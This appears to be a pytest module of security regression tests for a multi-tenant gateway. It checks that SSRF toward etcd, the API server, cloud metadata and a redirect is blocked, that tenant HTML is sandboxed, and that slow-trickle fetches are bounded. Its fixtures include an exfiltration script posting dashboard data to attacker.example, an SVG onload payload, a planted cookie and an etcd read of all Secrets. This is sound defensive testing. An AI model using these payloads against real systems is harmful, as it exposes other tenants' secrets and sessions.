"""Attacks through the gateway's outbound requests, on the real gateway and control plane, each
of which worked before the egress policy, the isolation headers and the outbound bounds:

- a tenant's VNG session type pointing at etcd (or the API server) to read another tenant's
  secrets through the exposed URL, directly, by a host name, and behind a redirect;
- a tenant's HTML page served on the gateway's origin reading the dashboard or planting cookies;
- forty-five slow-trickle openAPIinspector fetches freezing every tenant and /healthz.
"""

from __future__ import annotations

import base64
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler
from urllib.parse import urlsplit

import httpx
import pytest

from tests.cluster.test_vng_api import api, session_type_manifest, vng_token
from tests.conftest import GatewayProcess, localkube
from tests.support.loopback import LoopbackServer

pytestmark = [pytest.mark.cluster, pytest.mark.timeout(600)]


def open_session(cluster, gateway, namespace: str, token: str, base_url: str) -> str:
    """A running consumer session whose service `demo` forwards to `base_url`; its exposed URL."""
    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=session_type_manifest(base_url))
    with api(gateway, token) as vng:
        created = vng.post("/api/v1/testsessions/", json={"session_type": "Demo API test"})
        assert created.status_code == 201, created.text
        return created.json()["exposed_urls"][0]


def test_the_exposed_url_cannot_reach_etcd_or_the_api_server(cluster, namespace, gateway, two_tenants_operator):
    state = localkube.ClusterState.load(cluster.state_dir)
    etcd_port = urlsplit(state.etcd_url).port
    token = vng_token(cluster, gateway, namespace)
    # The read that used to return every Secret of every tenant from etcd.
    key = base64.b64encode(b"/registry/secrets/").decode()
    for base in (state.etcd_url, f"http://localhost:{etcd_port}", state.api_url, gateway.url):
        exposed = open_session(cluster, gateway, namespace, token, base)
        answer = httpx.post(exposed + "v3/kv/range", json={"key": key, "range_end": key[:-1] + "w"}, timeout=30)
        assert answer.status_code == 403, (base, answer.status_code, answer.text[:300])
        assert "egress policy" in answer.json()["detail"] and "kvs" not in answer.text
    with api(gateway, token) as vng:
        sessions = vng.get("/api/v1/testsessions/").json()
        result = vng.get(f"/api/v1/testsessions/{sessions[-1]['id']}/result").json()
    assert result["result"] == "failed"

    # Behind a redirect: the forwarder hands the redirect back, it does not follow it.
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()

        def redirect():
            conn, _ = listener.accept()
            with conn:
                conn.recv(65536)
                conn.sendall(
                    f"HTTP/1.1 307 Temporary Redirect\r\nLocation: {state.etcd_url}/v3/kv/range\r\n"
                    "Content-Length: 0\r\nConnection: close\r\n\r\n".encode()
                )

        server = threading.Thread(target=redirect, daemon=True)
        server.start()
        exposed = open_session(cluster, gateway, namespace, token, f"http://127.0.0.1:{listener.getsockname()[1]}")
        answer = httpx.post(exposed + "v3/kv/range", json={"key": key}, timeout=30, follow_redirects=False)
        server.join(10)
    assert answer.status_code == 307 and answer.content == b""


def test_the_inspector_cannot_fetch_the_stack_either(cluster, namespace, gateway, two_tenants_operator):
    state = localkube.ClusterState.load(cluster.state_dir)
    token = vng_token(cluster, gateway, namespace)
    with api(gateway, token) as vng:
        for url in (
            state.etcd_url + "/version",
            state.api_url + "/openapi/v3",
            gateway.url + "/healthz",
            "http://169.254.169.254/latest/meta-data/",
        ):
            answer = vng.post("/api/v1/openAPIinspector", json={"url": url})
            assert answer.status_code == 400 and answer.json() == {
                "url": "The link provided points to an address the gateway may not reach."
            }, (url, answer.text)


def test_tenant_content_cannot_act_as_the_gateways_page(cluster, namespace, gateway, two_tenants_operator):
    page = (
        b"<html><script>fetch('/dashboard/api/loadtests',{credentials:'include'})"
        b".then(r=>r.text()).then(t=>fetch('https://attacker.example/?'+t))</script></html>"
    )
    routes = {
        "/page": (
            {
                "Content-Type": "text/html",
                "Set-Cookie": "assay_session=planted; Path=/dashboard",
                "Content-Security-Policy": "default-src *",
            },
            page,
        ),
        "/svg": ({"Content-Type": "image/svg+xml"}, b"<svg onload='alert(1)'/>"),
        "/data": ({"Content-Type": "application/json"}, b'{"ok": true}'),
    }
    with PageServer(routes) as target:
        token = vng_token(cluster, gateway, namespace)
        exposed = open_session(cluster, gateway, namespace, token, target.url)
        for path in ("page", "svg"):
            answer = httpx.get(exposed + path, timeout=30)
            assert answer.status_code == 200 and answer.content
            assert "set-cookie" not in answer.headers
            assert answer.headers["content-security-policy"].startswith("sandbox")
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-disposition"] == "attachment"
        data = httpx.get(exposed + "data", timeout=30)
        assert data.json() == {"ok": True} and "content-disposition" not in data.headers
        assert data.headers["content-security-policy"].startswith("sandbox")


class PageServer(LoopbackServer):
    """Serves fixed answers by path: {path: (headers, body)}."""

    def __init__(self, routes: dict[str, tuple[dict, bytes]]):
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                headers, body = routes[self.path]
                self.send_response(200)
                for name, value in {**headers, "Content-Length": str(len(body))}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        super().__init__(Handler)


class TrickleServer:
    """Answers every connection with headers promising a large document, then one byte a second."""

    def __init__(self):
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(128)
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/openapi.json"
        self.connections = 0
        self.stopped = threading.Event()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while not self.stopped.is_set():
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._trickle, args=(conn,), daemon=True).start()

    def _trickle(self, conn):
        with conn:
            try:
                conn.recv(65536)
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
                while not self.stopped.wait(1.0):
                    conn.sendall(b" ")
            except OSError:
                pass

    def close(self):
        self.stopped.set()
        self.listener.close()


class QuickDeadlineGateway(GatewayProcess):
    @property
    def env(self):
        return {**super().env, "ASSAY_OUTBOUND_DEADLINE_SECONDS": "8", "ASSAY_OUTBOUND_PER_TENANT": "4"}


def test_slow_inspector_fetches_stall_neither_healthz_nor_other_tenants(
    cluster, namespace, other_account, tmp_path, two_tenants_operator, gateway
):
    quick = QuickDeadlineGateway(cluster, tmp_path / "quick-store", tmp_path / "quick.log").start()
    trickle = TrickleServer()
    try:
        attacker = vng_token(cluster, quick, namespace)
        bystander = vng_token(cluster, quick, other_account, "vng-other")

        def inspect(_):
            started = time.monotonic()
            answer = httpx.post(
                quick.url + "/api/v1/openAPIinspector",
                json={"url": trickle.url},
                headers={"Authorization": f"Token {attacker}"},
                timeout=60,
            )
            return answer.status_code, time.monotonic() - started

        with ThreadPoolExecutor(45) as pool:
            attack = [pool.submit(inspect, i) for i in range(45)]
            time.sleep(1.0)
            healthz, others = [], []
            for _ in range(10):
                began = time.monotonic()
                assert httpx.get(quick.url + "/healthz", timeout=10).status_code == 200
                healthz.append(time.monotonic() - began)
                began = time.monotonic()
                listed = httpx.get(
                    quick.url + "/api/v1/sessiontypes/", headers={"Authorization": f"Token {bystander}"}, timeout=10
                )
                assert listed.status_code == 200
                others.append(time.monotonic() - began)
                time.sleep(0.3)
            results = [f.result() for f in attack]
        statuses = sorted(status for status, _ in results)
        print(f"healthz max {max(healthz):.3f} s, other tenant max {max(others):.3f} s, statuses {statuses}")
        assert max(healthz) < 1.0 and max(others) < 2.0
        # Four fetches held their slots until the 8 s deadline, the rest were refused at once.
        assert statuses.count(429) == 41 and statuses.count(400) == 4, statuses
        assert trickle.connections == 4
        assert all(elapsed < 12 for status, elapsed in results)
    finally:
        trickle.close()
        quick.stop()
